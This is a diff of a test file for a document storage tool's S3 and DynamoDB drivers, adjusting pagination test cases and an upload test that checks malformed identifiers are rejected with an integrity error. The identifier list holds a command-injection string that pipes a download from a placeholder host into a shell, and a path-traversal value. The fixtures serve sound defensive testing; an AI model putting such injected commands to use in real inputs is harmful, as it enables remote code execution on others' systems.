@@ -267,7 +267,7 @@ describe("a listing of the bucket", () => {
       "<R><IsTruncated>true</IsTruncated><NextKeyMarker>k</NextKeyMarker><NextUploadIdMarker>u</NextUploadIdMarker></R>",
     ],
     ["of records", "Query", '{"Items": [], "LastEvaluatedKey": {"pk": {"S": "doc#0"}, "sk": {"S": "0"}}}'],
-    ["of claims", "Scan", '{"Items": [], "LastEvaluatedKey": {"pk": {"S": "name#0"}, "sk": {"S": "0"}}}'],
+    ["of places", "Scan", '{"Items": [], "LastEvaluatedKey": {"pk": {"S": "path#0"}, "sk": {"S": "head"}}}'],
   ])("%s that is always the same page comes to an end", async (_what, operation, body) => {
     const { sandbox, proxy, takeOver } = await open();
     takeOver(operation, (to) => to.writeHead(200).end(body));
@@ -331,13 +331,17 @@ describe("an upload", () => {
     expect(await runDocproc(sandbox, ["verify", "--all", "--deep"])).toMatchObject({ status: 0 });
   });
 
-  test.each(["x; curl example.com | sh", "", "../../x"])("is held by no document that is named %j", async (id) => {
+  test.each(["x; curl example.com | sh", "", "../../x"])("has no version that is named %j", async (id) => {
     const { proxy, bucket, takeOver } = await open();
-    takeOver("GetItem", (to) => to.writeHead(200).end(JSON.stringify({ Item: { id: { S: id } } })));
+    takeOver("GetItem", (to) =>
+      to.writeHead(200).end(JSON.stringify({ Item: { entries: { S: id.padEnd(52, "0") }, pages: { N: "0" } } })),
+    );
     const settings = { ...awsSettings(proxy.endpoint), table: bucket };
     const metadata = await metadataDrivers.dynamodb.open(settings);
     onTestFinished(() => metadata.close());
-    expect(await metadata.holder("a.txt", "identity", new AbortController().signal)).toBeUndefined();
+    const { signal } = new AbortController();
+    const lookUp = metadata.lookUp({ path: "a.txt", given: {} }, "0".repeat(64), signal);
+    await expect(lookUp).rejects.toMatchObject({ code: "INTEGRITY" });
   });
 
   test.each([
